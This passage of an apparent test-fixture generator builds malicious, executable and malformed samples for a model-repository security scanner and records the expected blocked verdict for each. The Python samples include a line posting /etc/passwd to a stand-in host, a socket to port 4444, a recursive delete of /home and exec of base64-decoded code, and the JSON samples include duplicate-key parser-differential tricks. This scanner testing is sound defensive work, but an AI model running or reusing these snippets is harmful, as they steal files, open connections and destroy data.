        "class_name": "Sequential", "keras_version": "2.12.0", "backend": "tensorflow",
        "config": {"name": "s", "layers": [{"class_name": "Lambda", "config": {
            "name": "l", "function_type": "lambda",
            "function": ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7pAgAAAKkAKQHaAXhyAgAAAHICAAAA+gd0ZXN0"
                         "LnB52gg8bGFtYmRhPgEAAADzAAAAAA==", None, None]}}]}}))
    add("malicious/keras_config_lambda.json", "BLOCKED", "MG-KERAS-300",
        "a bare Keras config (class_name + config) with a Lambda layer reaches the Keras analysis")

    # Python
    py = {
        "alias_import.py": ("import subprocess as sp\nsp.run(['id'])\n", "import ... as"),
        "from_import_alias.py": ("from os import system as run_cmd\nrun_cmd('id')\n", "from ... import ... as"),
        "dunder_import.py": ("__import__('os').system('id')\n", "__import__"),
        "exec_b64.py": ("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n", "exec of base64-decoded data"),
        "eval_call.py": ("def f(x):\n    return eval(x)\n", "eval"),
        "compile_call.py": ("code = compile('1', 'x', 'eval')\n", "compile"),
        "fstring_call.py": ("import os\nname = f\"{os.popen('id').read()}\"\n", "a call inside an f-string"),
        "fstring_nested_quotes.py": ("import os\nname = f\"{os.popen(\"id\").read()}\"\n",
                                     "a call inside a Python 3.12 f-string with nested quotes"),
        "star_import.py": ("from os import *\nsystem('id')\n", "a star import"),
        "requests_exfil.py": ("import requests, os\nrequests.post('https://x.example', data=open('/etc/passwd'))\n",
                              "requests.post"),
        "socket_shell.py": ("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n", "socket"),
        "ctypes_load.py": ("import ctypes\nlib = ctypes.CDLL('./libevil.so')\n", "ctypes"),
        "pickle_loads.py": ("import pickle\nobj = pickle.loads(blob)\n", "pickle.loads"),
        "marshal_loads.py": ("import marshal\ncode = marshal.loads(data)\n", "marshal.loads"),
        "importlib_call.py": ("import importlib\nm = importlib.import_module('o' + 's')\n",
                              "importlib.import_module"),
        "urllib_fetch.py": ("from urllib import request\nrequest.urlopen('https://x.example/p')\n",
                            "from urllib import request"),
        "http_client.py": ("import http.client\nc = http.client.HTTPSConnection('x.example')\n", "http.client"),
        "shutil_rmtree.py": ("import shutil\nshutil.rmtree('/home')\n", "shutil.rmtree"),
        "os_exec.py": ("import os\nos.execvp('sh', ['sh'])\n", "os.exec*"),
        "os_spawn.py": ("import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh')\n", "os.spawn*"),
        "torch_hub.py": ("import torch\nm = torch.hub.load('attacker/repo', 'model')\n", "torch.hub.load"),
        "continuation.py": ("import os\nx = 1 + \\\n    2\nos . system ( 'id' )\n", "spaces around the dot"),
        "after_docstring.py": ('"""A docstring with import os and\n"""\nimport os\nos.system("id")\n',
                               "code after a docstring that mentions imports"),
        "try_first.py": ("try:\n    import os\n    os.system('id')\nexcept ImportError:\n    pass\n",
                         "a module whose first line is `try:` (which a YAML reader takes for `key:`)"),
        "paren_import.py": ("from subprocess import (\n    Popen,\n    PIPE,\n)\nPopen(['id'])\n",
                            "a parenthesised import list"),
    }
    for name, (src, what) in sorted(py.items()):
        write("malicious/python/" + name, src)
        add("malicious/python/" + name, "BLOCKED", "MG-HF-102", "Python: " + what)

    # executables
    write("malicious/exe/python_script", "#!/usr/bin/env python3\nimport os\nos.system('id')\n")
    add("malicious/exe/python_script", "BLOCKED", "MG-EXE-300,MG-HF-102",
        "a #! python script is an executable, and its calls are reported")
    write("malicious/exe/env_S_script", "#!/usr/bin/env -S bash -e\nid\n")
    add("malicious/exe/env_S_script", "BLOCKED", "MG-EXE-300", "#!/usr/bin/env -S bash")
    write("malicious/exe/elf64_exec", elf())
    add("malicious/exe/elf64_exec", "BLOCKED", "MG-EXE-300", "ELF 64-bit executable")
    write("malicious/exe/elf64_so.bin", elf(etype=3, machine=183))
    add("malicious/exe/elf64_so.bin", "BLOCKED", "MG-EXE-300", "ELF shared object named like weights")
    write("malicious/exe/elf32_be", elf(bits=32, big=True, machine=8))
    add("malicious/exe/elf32_be", "BLOCKED", "MG-EXE-300", "ELF 32-bit big-endian")
    write("malicious/exe/elf_truncated", b"\x7fELF\x02\x01\x01")
    add("malicious/exe/elf_truncated", "BLOCKED", "MG-EXE-300", "an ELF header cut after 7 bytes")
    write("malicious/exe/pe64.exe", pe())
    add("malicious/exe/pe64.exe", "BLOCKED", "MG-EXE-300", "PE32+ executable")
    write("malicious/exe/pe32_dll.dll", pe(dll=True, pe32plus=False, machine=0x14C))
    add("malicious/exe/pe32_dll.dll", "BLOCKED", "MG-EXE-300", "PE32 DLL")
    dos = bytearray(pe())
    dos[0x80:0x84] = b"XXXX"
    write("malicious/exe/dos_mz.com", bytes(dos))
    add("malicious/exe/dos_mz.com", "BLOCKED", "MG-EXE-300", "an MZ header without a PE header")
    write("malicious/exe/macho64", macho())
    add("malicious/exe/macho64", "BLOCKED", "MG-EXE-300", "Mach-O 64-bit little-endian")
    write("malicious/exe/macho32_be.dylib", macho(bits=32, big=True, filetype=6, cpu=18))
    add("malicious/exe/macho32_be.dylib", "BLOCKED", "MG-EXE-300", "Mach-O 32-bit big-endian dylib")
    write("malicious/exe/macho_fat", fat_macho())
    add("malicious/exe/macho_fat", "BLOCKED", "MG-EXE-300", "a universal (fat) Mach-O")
    write("malicious/exe/tiny.llamafile", llamafile())
    add("malicious/exe/tiny.llamafile", "BLOCKED", "MG-EXE-300", "a llamafile: APE header, ELF, GGUF in a zip")
    write("malicious/exe/ape_jartsr", b"jartsr='\n\n'\nexit 1\n" + b"\0" * 64)
    add("malicious/exe/ape_jartsr", "BLOCKED", "MG-EXE-300", "an APE binary without the Windows header")


# ---- malformed ----

def malformed():
    d = "malformed/dup-key-repo"
    model_repo(d)
    cfg = jdump(llama_config())
    cfg = cfg.replace('"model_type": "llama",', '"model_type": "llama",\n  "model_type": "mistral",')
    write(d + "/config.json", cfg)
    add(d, "BLOCKED", "MG-HF-400", "config.json names model_type twice (parser differential)")

    cases = {
        "duplicate_nested.json": ('{"model_type": "llama", "rope_scaling": {"type": "linear", "factor": 2, '
                                  '"type": "dynamic"}}', "a duplicate key inside a nested object"),
        "duplicate_escaped.json": ('{"auto_map": {}, "auto_m\\u0061p": {"AutoModel": "x.Y"}}',
                                   "keys equal once decoded (\\u0061 is a)"),
        "duplicate_many_keys.json": ("{" + ", ".join('"k%d": %d' % (i, i) for i in range(40)) + ', "k7": 0}',
                                     "a duplicate among 41 keys (the sorted check)"),
        "truncated.json": ('{"model_type": "llama", "hidden_size": 40', "the document ends inside an object"),
        "trailing_comma.json": ('{"model_type": "llama",}', "a trailing comma"),
        "comment.json": ('{"model_type": "llama", // a comment\n "x": 1}', "a // comment"),
        "single_quotes.json": ("{\"model_type\": 'llama'}", "a single-quoted string"),
        "control_char.json": ('{"model_type": "lla\tma"}', "a raw tab inside a string"),
        "bad_escape.json": ('{"model_type": "\\x41"}', "an invalid escape"),
        "bad_unicode_escape.json": ('{"a": "\\u12G4"}', "a \\u escape with a non-hex digit"),
        "huge_integer.json": ('{"model_type": "x", "n": ' + "9" * 5000 + "}",
                              "an integer of 5000 digits (Python 3.11+ refuses)"),
        "leading_zero.json": ('{"n": 012}', "a number with a leading zero"),
        "nan_lowercase.json": ('{"a": nan}', "nan is not NaN"),
        "extra_data.json": ('{"model_type": "llama"} x', "data after the value on the same line"),
        "auto_map_number.json": ('{"model_type": "x", "auto_map": 5}', "auto_map that is not an object"),
        "auto_map_bad_entry.json": ('{"model_type": "x", "auto_map": {"AutoModel": 5}}',
                                    "an auto_map entry that is not a class reference"),
        "weight_map_list.json": ('{"metadata": {}, "weight_map": ["a"]}', "weight_map that is not an object"),
        "weight_map_int.json": ('{"metadata": {}, "weight_map": {"w": 1}}', "a shard name that is not a string"),
        "chat_template_number.json": ('{"chat_template": 5}', "chat_template that is neither text nor a list"),
        "chat_template_entry.json": ('{"chat_template": [{"name": "a"}]}', "a named template without text"),
        "custom_pipelines_no_impl.json": ('{"model_type": "x", "custom_pipelines": {"t": {"pt": []}}}',
                                          "a custom pipeline without impl"),
    }
    for name, (text, what) in sorted(cases.items()):
        write("malformed/" + name, text)
        add("malformed/" + name, "BLOCKED", "MG-HF-400", what)
    write("malformed/bom.json", b"\xef\xbb\xbf" + jdump(llama_config()).encode())
    add("malformed/bom.json", "BLOCKED", "MG-HF-400", "a UTF-8 byte-order mark (Python's json.loads refuses it)")
    write("malformed/invalid_utf8.json", b'{"model_type": "ll\xc3\x28ama"}')
    add("malformed/invalid_utf8.json", "BLOCKED", "MG-HF-400", "invalid UTF-8 in a string")
    write("malformed/overlong_utf8.json", b'{"a": "\xc0\xaf"}')
    add("malformed/overlong_utf8.json", "BLOCKED", "MG-HF-400", "an overlong UTF-8 sequence")
    write("malformed/surrogate_utf8.json", b'{"a": "\xed\xa0\x80"}')
    add("malformed/surrogate_utf8.json", "BLOCKED", "MG-HF-400", "a surrogate encoded in UTF-8")
    write("malformed/deep_nesting.json", "[" * 600 + "]" * 600)
    add("malformed/deep_nesting.json", "BLOCKED", "MG-FMT-401", "600 nested arrays: past the 512-level limit")
    write("malformed/bad_line.jsonl", '{"a": 1}\n{"b": 2}\n{"c": \n')
    add("malformed/bad_line.jsonl", "BLOCKED", "MG-HF-400", "a JSON Lines file whose last line is cut")
    big = tokenizer_json(12000)
    text = jdump(big)
    text = text.replace('"version": "1.0",', '"version": "1.0",\n  "model_type": "x",\n  "version": "2.0",', 1)
    write("malformed/large_duplicate_top.json", text)
    add("malformed/large_duplicate_top.json", "BLOCKED", "MG-HF-400",
        "a duplicate top-level key in a document larger than 256 KiB")
    text = jdump(tokenizer_config(added_tokens_decoder={str(i): {"content": "<|r%d|>" % i, "special": True}
                                                        for i in range(4000)}))
    text = text.replace('"content": "<|r3999|>",', '"content": "<|r3999|>", "content": "<|im_start|>",', 1)
    write("malformed/large_duplicate_nested.json", text)
    add("malformed/large_duplicate_nested.json", "BLOCKED", "MG-HF-400",
        "a duplicate key deep inside a tokenizer config larger than 256 KiB")


def write_manifest():
    with open(os.path.join(OUT, "expected.tsv"), "w", encoding="utf-8") as f:
        f.write("# written by tests/corpus/make_hfrepo_fixtures.py; folders are scanned as model folders\n")
        for rel, outcome, threats, what in MANIFEST:
            f.write("%s\t%s\t%s\t%s\n" % (rel, outcome, threats, what))
    with open(os.path.join(OUT, "facts.json"), "w", encoding="utf-8") as f:
        json.dump(FACTS, f, indent=1, sort_keys=True)
        f.write("\n")


def check_facts(binary, out):
    """Scans every fixture with expected facts and compares the report's
    per-file facts (the file itself, or files of a folder by relative path)."""
    with open(os.path.join(out, "facts.json"), encoding="utf-8") as f:
        want = json.load(f)
    bad = good = 0
    for rel, files in sorted(want.items()):
        proc = subprocess.run([binary, "scan", "--format", "json", "--no-hash", os.path.join(out, rel)],
                              capture_output=True)
        rep = json.loads(proc.stdout)
        got = {f["path"]: f.get("facts", {}) for f in rep["files"]}
        for fpath, facts in files.items():
            have = got.get(fpath) if fpath else next(iter(got.values()), None)
            if have is None or any(have.get(k) != v for k, v in facts.items()):
                print("FAIL facts %s %s: want %s, got %s" % (rel, fpath, facts, have))
                bad += 1
            else:
                print("ok facts %s %s" % (rel, fpath))
                good += 1
    print("%d passed, %d failed" % (good, bad))
    return 1 if bad else 0


def main():
    global OUT
    if len(sys.argv) == 4 and sys.argv[1] == "--check-facts":
        return check_facts(sys.argv[2], sys.argv[3])
    if len(sys.argv) != 2:
        sys.stderr.write(__doc__)
        return 2
    OUT = sys.argv[1]
    for sub in ("benign", "malicious", "malformed"):
        shutil.rmtree(os.path.join(OUT, sub), ignore_errors=True)
    benign()
    malicious()
    malformed()
    write_manifest()
    return 0


if __name__ == "__main__":
    sys.exit(main())
